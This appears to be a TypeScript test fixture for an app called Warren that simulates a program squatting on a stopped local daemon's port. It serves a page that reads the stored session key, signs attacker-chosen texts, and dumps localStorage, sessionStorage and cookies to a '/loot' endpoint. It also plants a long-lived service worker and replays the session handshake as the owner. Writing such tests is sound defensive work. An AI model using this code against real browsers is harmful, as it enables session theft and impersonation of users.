/** Somebody else's program on the port of a daemon that is down: serves a page of its own at our address and keeps what it is told. */

import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { once } from 'node:events'

/** What its page found and made at our address. */
export interface Loot {
  readonly sessionId: string
  /** How the key's bytes could be had. */
  readonly exported: string
  /** Signed with the page's key: texts of the squatter's choice. */
  readonly signed: Readonly<Record<string, string>>
  /** Everything that scripts can read there. */
  readonly stored: string
}

/** Runs in the page, as the squatter's own script. */
const script = (says: readonly string[], worker: boolean): string => `
const database = await new Promise((resolve) => {
  const request = indexedDB.open('warren', 1)
  request.onsuccess = () => resolve(request.result)
})
const get = (name) => new Promise((resolve) => {
  const request = database.transaction('session').objectStore('session').get(name)
  request.onsuccess = () => resolve(request.result)
})
const { id, key } = await get('current')
globalThis.key = key
globalThis.sign = async (text) => btoa(String.fromCharCode(...new Uint8Array(
  await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(text))))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')
const exported = await crypto.subtle.exportKey('raw', key).then(() => 'yes', (error) => error.name)
const signed = {}
for (const text of ${JSON.stringify(says)}.map((each) => each.replaceAll('ID', id))) signed[text] = await sign(text)
const stored = JSON.stringify([{ ...localStorage }, { ...sessionStorage }, id, document.cookie])
${worker ? "await navigator.serviceWorker.register('/worker.js'); await navigator.serviceWorker.ready" : ''}
await fetch('/loot', { method: 'POST', body: JSON.stringify({ sessionId: id, exported, signed, stored }) })
document.body.append('squatted')
`

const page =
  '<!doctype html><meta charset="utf-8"><title>Warren</title><body><script type="module" src="/squat.js"></script>'
const worker = `addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return
  const headers = { 'content-type': 'text/html' }
  event.respondWith(new Response('<!doctype html><title>Warren</title><body>from the worker', { headers }))
})`

export interface SquatterOptions {
  readonly port: number
  /** What its page signs; ID stands for the session's id. */
  readonly says?: readonly string[]
  /** Leaves a service worker behind. */
  readonly worker?: boolean
}

export class Squatter {
  readonly #server: Server
  readonly #loot = Promise.withResolvers<Loot>()
  readonly #options: SquatterOptions
  /** Other answers: `POST /api/v1/…` to what it says. */
  readonly answers = new Map<string, () => unknown>()

  constructor(options: SquatterOptions) {
    this.#options = options
    this.#server = createServer((request, response) => void this.#answer(request, response))
  }

  async listen(): Promise<void> {
    this.#server.listen(this.#options.port, '127.0.0.1')
    await once(this.#server, 'listening')
  }

  /** What its page sends. */
  async loot(): Promise<Loot> {
    return await this.#loot.promise
  }

  async close(): Promise<void> {
    const closed = once(this.#server, 'close')
    this.#server.close()
    this.#server.closeAllConnections()
    await closed
  }

  async #answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const chunks: Buffer[] = []
    for await (const chunk of request) chunks.push(chunk as Buffer)
    const path = request.url ?? '/'
    if (path === '/loot') {
      this.#loot.resolve(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Loot)
      response.end('{}')
      return
    }
    const isScript = path.endsWith('.js')
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html')
    // For as long as a browser keeps anything.
    response.setHeader('cache-control', path === '/squat.js' ? 'no-store' : 'public, max-age=31536000, immutable')
    if (path === '/worker.js') response.end(worker)
    else if (path === '/squat.js') response.end(script(this.#options.says ?? [], this.#options.worker === true))
    else if (path.startsWith('/assets/')) response.end('document.body.append("squatted asset")')
    else response.end(page)
  }
}

/** Runs in its page when the daemon is back: proves the session as our own page would. Comes to the status of GET /me. */
export const openAsOwner = (sessionId: string): string => `(async () => {
  const send = (path, body) => fetch('/api/v1' + path, {
    method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
  const sessionId = ${JSON.stringify(sessionId)}
  const own = 'B'.repeat(22)
  const hello = await send('/session/hello', { sessionId, nonce: own })
  if (!hello.ok) return hello.status
  const { nonce } = await hello.json()
  const text = (who) => ['warren/1/' + who, sessionId, own, nonce].join(String.fromCharCode(0))
  await send('/session/prove', { sessionId, nonce, proof: await sign(text('page')) })
  const token = await sign(text('token'))
  return (await fetch('/api/v1/me', { headers: { authorization: 'Bearer ' + token } })).status
})()`
